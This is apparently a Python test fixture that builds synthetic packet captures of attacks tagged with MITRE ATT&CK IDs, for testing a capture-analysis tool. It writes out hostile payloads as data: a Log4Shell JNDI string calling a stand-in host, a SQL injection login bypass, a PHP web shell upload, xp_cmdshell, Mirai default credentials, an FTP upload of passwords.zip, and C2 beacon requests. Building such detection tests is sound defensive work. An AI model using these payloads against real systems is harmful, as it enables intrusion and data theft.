"""Captures of attacks by family with the technique that each shows: the half to develop with."""

# ruff: noqa: E501 - messages are as long as they are
from __future__ import annotations

import random
from uuid import UUID

from tests.support.captures import conversation, ethernet, question, udp
from tests.support.protocol_messages import (
    ETYPES,
    LOGON_FAILURE,
    add_entry,
    bits,
    both,
    created,
    equal,
    kdc_reply,
    kdc_request,
    modify,
    rdp_confirm,
    rdp_request,
    search,
    simple_bind,
    wide,
    write,
)
from tests.svc.assistant.skills.pcap.attack_frames import (
    ACTIVATOR,
    ATSVC,
    DC,
    DISPATCH,
    DRSUAPI,
    EFS,
    EPM,
    EVENTS,
    EVIL,
    HOST,
    HOUND,
    LSARPC,
    PC,
    PROGRAM,
    SAMR,
    SPN,
    SPOOLSS,
    SRVSVC,
    START,
    SVCCTL,
    TASKS,
    USERS,
    WINREG,
    WKSSVC,
    WMI,
    Build,
    arps,
    directory,
    echo,
    eternal,
    floods,
    ftp,
    get,
    iodine,
    kerberos,
    knock,
    logins,
    opened,
    over_pipe,
    over_tcp,
    path_of_sum,
    poisoned,
    post,
    relay,
    roast,
    smbghost,
    spray,
    ssh_guesses,
    stage,
    web,
    winrm,
    zerologon,
)

ANNA = ("CORP", "anna", "WS21", b"12345678")
OPEN: dict[str, tuple[set[str], Build]] = {
    "service created over SMB": (
        {"T1569.002"},
        lambda: over_pipe(
            SVCCTL, "svcctl", [(15, b""), (12, wide("PSEXESVC") + wide("%SystemRoot%\\PSEXESVC.exe")), (19, b"")]
        ),
    ),
    "service changed": ({"T1543.003"}, lambda: over_tcp(SVCCTL, [(15, b""), (11, wide("cmd.exe /c calc"))])),
    "service manager opened on a host": ({"T1007"}, lambda: over_pipe(SVCCTL, "svcctl", [(15, wide("\\\\WS60"))])),
    "WMI method": ({"T1047"}, lambda: over_tcp(WMI, [(6, b""), (24, wide("Win32_Process"))])),
    "DCOM object scripted": (
        {"T1021.003"},
        lambda: (
            over_tcp(ACTIVATOR, [(4, bytes(20) + UUID("49b2791a-b1ae-4c90-9b8e-e860ba07f889").bytes_le)])
            + over_tcp(DISPATCH, [(5, wide("Document")), (6, b"")], port=49_700)
        ),
    ),
    "task registered": (
        {"T1053.005"},
        lambda: over_pipe(
            TASKS,
            "atsvc",
            [
                (1, wide("\\Updater") + wide("<Task><Exec><Command>cmd.exe</Command></Exec></Task>")),
                (12, wide("\\Updater")),
            ],
            by_write=True,
        ),
    ),
    "at job": ({"T1053.002"}, lambda: over_pipe(ATSVC, "atsvc", [(0, wide("cmd /c whoami"))])),
    "DCSync": ({"T1003.006"}, lambda: over_tcp(DRSUAPI, [(0, b""), (12, b""), (3, bytes(40))], server=DC)),
    "hive saved": (
        {"T1003.002"},
        lambda: over_pipe(WINREG, "winreg", [(2, b""), (15, wide("SAM")), (20, wide("tmp1.tmp"))]),
    ),
    "registry value set": (
        {"T1112"},
        lambda: over_pipe(WINREG, "winreg", [(2, b""), (22, wide("fDenyTSConnections"))]),
    ),
    "domain users listed": ({"T1087.002"}, lambda: over_pipe(SAMR, "samr", [(64, b""), (13, b"")], server=DC)),
    "privileged group looked up": (
        {"T1069.002"},
        lambda: over_pipe(SAMR, "samr", [(17, wide("Domain Admins")), (25, b"")], server=DC),
    ),
    "sessions listed": ({"T1049"}, lambda: over_pipe(SRVSVC, "srvsvc", [(12, wide("\\\\WS60"))])),
    "shares listed": ({"T1135"}, lambda: over_pipe(SRVSVC, "srvsvc", [(15, wide("\\\\WS60"))])),
    "logged-on users": ({"T1033"}, lambda: over_pipe(WKSSVC, "wkssvc", [(2, b"")])),
    "secret read": (
        {"T1003.004"},
        lambda: over_pipe(LSARPC, "lsarpc", [(44, b""), (43, wide("G$BCKUPKEY_PREFERRED"))], server=DC),
    ),
    "Zerologon": ({"T1210"}, lambda: zerologon(6, by_pipe=False)),
    "PetitPotam": ({"T1187"}, lambda: over_pipe(EFS, "lsarpc", [(0, wide("\\\\10.9.1.99\\share\\x"))], server=DC)),
    "printer bug": (
        {"T1187"},
        lambda: over_pipe(SPOOLSS, "spoolss", [(1, b""), (65, wide("\\\\10.9.1.99"))], server=DC),
    ),
    "PrintNightmare": (
        {"T1547.012"},
        lambda: over_pipe(SPOOLSS, "spoolss", [(89, wide("\\\\10.9.1.99\\s\\a.dll"))], server=DC),
    ),
    "log cleared": ({"T1070.001"}, lambda: over_pipe(EVENTS, "eventlog", [(6, wide("Security"))])),
    "endpoint map dumped": ({"T1046"}, lambda: over_tcp(EPM, [(2, bytes(60))], port=135)),
    "Kerberoasting with RC4 first": (
        {"T1558.003"},
        lambda: roast(["MSSQLSvc/db1.corp.example:1433", "HTTP/web.corp.example"], (23, 16, 3, 18)),
    ),
    "Kerberoasting of many services": (
        {"T1558.003"},
        lambda: roast([f"svc{n}/h{n}.corp.example" for n in range(8)], ETYPES, tcp_port=50_600),
    ),
    "AS-REP roasting": (
        {"T1558.004"},
        lambda: kerberos(
            [
                (">", kdc_request("legacy", ("krbtgt", "CORP"), etypes=(23,))),
                ("<", kdc_reply("legacy", ("krbtgt", "CORP"), part=23)),
            ]
        ),
    ),
    "Kerberos spraying": ({"T1110.003"}, lambda: spray(USERS, 24)),
    "Kerberos guessing": ({"T1110.001"}, lambda: spray(["svc-backup"] * 12, 24)),
    "Kerberos user enumeration": ({"T1087.002"}, lambda: spray([f"user{n}" for n in range(30)], 6, stamp=None)),
    "overpass the hash": (
        {"T1550.002"},
        lambda: kerberos(
            [
                (">", kdc_request("anna", ("krbtgt", "CORP"), etypes=(23,), stamp=23)),
                ("<", kdc_reply("anna", ("krbtgt", "CORP"), ticket=18, part=23)),
            ]
        ),
    ),
    "LDAP search for SPNs": (
        {"T1558.003"},
        lambda: directory([search("DC=corp,DC=example", SPN, ["samAccountName", "servicePrincipalName"])]),
    ),
    "LDAP search for accounts without pre-authentication": (
        {"T1558.004"},
        lambda: directory(
            [search("DC=corp,DC=example", both(equal("objectClass", "user"), bits("userAccountControl", "4194304")))]
        ),
    ),
    "LDAP search for Domain Admins": (
        {"T1069.002"},
        lambda: directory(
            [
                search(
                    "DC=corp,DC=example",
                    both(equal("objectCategory", "group"), equal("name", "Domain Admins")),
                    ["member"],
                )
            ]
        ),
    ),
    "BloodHound": (
        {"T1087.002", "T1482"},
        lambda: directory(
            [
                search("DC=corp,DC=example", HOUND, ["samaccountname", "objectsid"]),
                search("DC=corp,DC=example", equal("objectclass", "trusteddomain")),
            ]
        ),
    ),
    "LAPS passwords": (
        {"T1552"},
        lambda: directory([search("DC=corp,DC=example", equal("objectCategory", "computer"), ["cn", "ms-Mcs-AdmPwd"])]),
    ),
    "group member added": (
        {"T1098.007"},
        lambda: directory(
            [modify("CN=Domain Admins,CN=Users,DC=corp,DC=example", "member", "CN=eve,CN=Users,DC=corp,DC=example")]
        ),
    ),
    "shadow credentials": (
        {"T1098"},
        lambda: directory(
            [modify("CN=DC01,OU=Domain Controllers,DC=corp,DC=example", "msDS-KeyCredentialLink", "B:828:00")]
        ),
    ),
    "DCShadow": (
        {"T1207"},
        lambda: directory(
            [
                add_entry(
                    "CN=NTDS Settings,CN=WS21,CN=Servers,CN=Site,CN=Sites,CN=Configuration,DC=corp,DC=example",
                    [("objectClass", "nTDSDSA")],
                )
            ]
        ),
    ),
    "LDAP password in cleartext": (
        {"T1040"},
        lambda: directory([simple_bind("CN=svc,DC=corp,DC=example", "Winter2026!")]),
    ),
    "WinRM": (
        {"T1021.006"},
        lambda: winrm(
            "/wsman?PSVersion=5.1",
            5985,
            "Negotiate",
            b"\x00\x01" * 40,
            'multipart/encrypted;protocol="application/HTTP-SPNEGO-session-encrypted";boundary="Encrypted Boundary"',
        ),
    ),
    "RDP from outside": (
        {"T1021.001"},
        lambda: conversation(
            [(">", rdp_request("administr")), ("<", rdp_confirm(1)), (">", b"\x16\x03\x01\x00\x05hello")],
            client=EVIL,
            server=HOST,
            ports=(50_410, 3389),
        ),
    ),
    "RDP guessing": (
        {"T1110.001"},
        lambda: [
            f
            for n in range(20)
            for f in conversation(
                [(">", rdp_request(f"user{n % 3}")), ("<", rdp_confirm(2))],
                client=EVIL,
                server=HOST,
                ports=(40_000 + n, 3389),
                at=START + n,
            )
        ],
    ),
    "SSH guessing": ({"T1110.001"}, lambda: ssh_guesses(EVIL, HOST, 25, 1.5)),
    "SMB guessing": ({"T1110.001"}, lambda: logins(12, LOGON_FAILURE, ["administrator"], PC, HOST)),
    "SMB spraying": ({"T1110.003"}, lambda: logins(12, LOGON_FAILURE, USERS, PC, DC)),
    "LLMNR poisoning": ({"T1557.001"}, lambda: poisoned(["fileserv", "printsrv02", "wpad"], kind="llmnr")),
    "NTLM relay": ({"T1557.001"}, lambda: relay(b"\x91\x04\xaa\x20\x5e\x12\x03\x07", HOST)),
    "EternalBlue": ({"T1210"}, lambda: eternal(65)),
    "SMBGhost": ({"T1210"}, smbghost),
    "program copied to ADMIN$": (
        {"T1570"},
        lambda: opened(
            ANNA,
            HOST,
            "ADMIN$",
            "Temp\\a1b2.exe",
            ("<", created(b"F" * 16, 4)),
            (">", write(b"F" * 16, PROGRAM, 5)),
            port=50_420,
        ),
    ),
    "group policy passwords": (
        {"T1552.006"},
        lambda: opened(
            ANNA,
            DC,
            "SYSVOL",
            "corp.example\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\MACHINE\\Preferences\\Groups\\Groups.xml",
            port=50_421,
        ),
    ),
    "dump of LSASS fetched": (
        {"T1003.001"},
        lambda: opened(ANNA, HOST, "C$", "Windows\\Temp\\lsass.dmp", port=50_422),
    ),
    "Empire": (
        {"T1071.001"},
        lambda: [
            f
            for n in range(4)
            for f in web(
                [
                    get(
                        ("/admin/get.php", "/news.php")[n % 2],
                        "198.51.100.77",
                        "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
                        "Cookie: session=Tkx1a2VzV2FzSGVyZTEyMzQ1Njc4OTA=\r\n",
                    )
                ],
                at=START + 7.3**0.5 * n * n,
                ports=(50_430 + n, 80),
            )
        ],
    ),
    "Covenant": (
        {"T1071.001"},
        lambda: web(
            [
                post(
                    "/en-us/test.html",
                    b"i=a19ea23062db990386a3a478cb89d52e&data=eyJHVUlEIjoiYSJ9&session=75db-99b1-25fe4e9afbe58696-320bea73",
                    "198.51.100.77",
                )
            ]
        ),
    ),
    "Meterpreter stager": (
        {"T1071.001"},
        lambda: web(
            [
                get(
                    "/" + path_of_sum(92, 5),
                    "198.51.100.77:8080",
                    "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
                )
            ],
            stage(180_000),
            ports=(50_440, 8080),
        ),
    ),
    "Cobalt Strike beacon": (
        {"T1071.001"},
        lambda: web([post("/submit.php?id=48213", b"\x00\x00\x00\x20" + bytes(32), "198.51.100.77")]),
    ),
    "DNS tunnel": ({"T1071.004"}, lambda: iodine("t1.example.org", 60, 10, 3)),
    "ICMP tunnel": (
        {"T1095"},
        lambda: [
            f
            for n in range(40)
            for f in echo(
                PC,
                EVIL,
                random.Random(n).randbytes(120 + n * 11),
                random.Random(n + 99).randbytes(300 + n * 7),
                n,
                START + n * 0.4,
            )
        ],
    ),
    "SYN scan": (
        {"T1046"},
        lambda: [f for n in range(60) for f in knock(PC, HOST, 20 + n, START + n * 0.01, source=41_000)],
    ),
    "XMAS scan": (
        {"T1046"},
        lambda: [f for n in range(60) for f in knock(PC, HOST, 20 + n, START + n * 0.01, flags=0x29, source=41_000)],
    ),
    "UDP scan": (
        {"T1046"},
        lambda: [(START + n * 0.02, ethernet(udp(PC, HOST, (41_000, 100 + 7 * n), b""))) for n in range(60)],
    ),
    "ARP scan": ({"T1018"}, lambda: arps(PC, 120)),
    "SYN flood": ({"T1498.001", "T1499.001"}, lambda: floods("syn", 1_500)),
    "UDP flood": ({"T1498.001"}, lambda: floods("udp", 1_500)),
    "Log4Shell in a header": (
        {"T1190"},
        lambda: web([get("/", agent="${jndi:ldap://198.51.100.77:1389/a}")], server=HOST),
    ),
    "SQL injection in a form": (
        {"T1190"},
        lambda: web(
            [
                post(
                    "/login.php",
                    b"user=admin%27+OR+%271%27%3D%271&pass=x",
                    extra="Content-Type: application/x-www-form-urlencoded\r\n",
                )
            ],
            server=HOST,
        ),
    ),
    "web shell uploaded": (
        {"T1505.003"},
        lambda: web(
            [
                post(
                    "/upload.php",
                    b'------x\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n<?php system($_GET[\'c\']); ?>\r\n------x--',
                )
            ],
            server=HOST,
        ),
    ),
    "guessing at a web form": (
        {"T1110.001"},
        lambda: web(
            [post("/login", f"user=admin&password=p{n}".encode()) for n in range(40)],
            b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 2\r\n\r\nno",
            server=HOST,
        ),
    ),
    "directories guessed": (
        {"T1595.003"},
        lambda: web(
            [get(f"/{name}{n}/") for n in range(12) for name in ("admin", "old", "test", "bak", "dev")],
            b"HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\n\r\nno",
            client=EVIL,
            server=HOST,
        ),
    ),
    "public address looked up": ({"T1016"}, lambda: question("api.ipify.org", client=PC, missing=False)),
    "file sent by FTP": (
        {"T1048.003"},
        lambda: conversation(
            ftp("USER bob", "PASS secretpw", "STOR passwords.zip"), client=PC, server=EVIL, ports=(50_450, 21)
        ),
    ),
    "SQL Server shell": (
        {"T1059.003"},
        lambda: conversation(
            [
                (">", b"\x12\x01\x00\x2f\x00\x00\x01\x00" + bytes(39)),
                ("<", b"\x04\x01\x00\x2b\x00\x00\x01\x00" + bytes(35)),
                (">", b"\x01\x01\x00\x80\x00\x00\x01\x00" + "EXEC master..xp_cmdshell 'whoami'".encode("utf-16-le")),
            ],
            client=PC,
            server=HOST,
            ports=(50_460, 1433),
        ),
    ),
    "Telnet bot": (
        {"T1059.004"},
        lambda: conversation(
            [
                ("<", b"login: "),
                (">", b"root\r\n"),
                ("<", b"Password: "),
                (">", b"xc3511\r\n"),
                ("<", b"# "),
                (">", b"enable\r\n"),
                (">", b"/bin/busybox MIRAI\r\n"),
                ("<", b"MIRAI: applet not found\r\n"),
            ],
            client=EVIL,
            server=HOST,
            ports=(50_470, 23),
        ),
    ),
    "mining": (
        {"T1496.001"},
        lambda: conversation(
            [
                (
                    ">",
                    b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4A","pass":"x","agent":"XMRig/6.21"}}\n',
                )
            ],
            client=PC,
            server=EVIL,
            ports=(50_480, 3333),
        ),
    ),
    "Tor name": ({"T1090.003"}, lambda: question("abcdefghij234567.onion", client=PC, missing=True)),
}
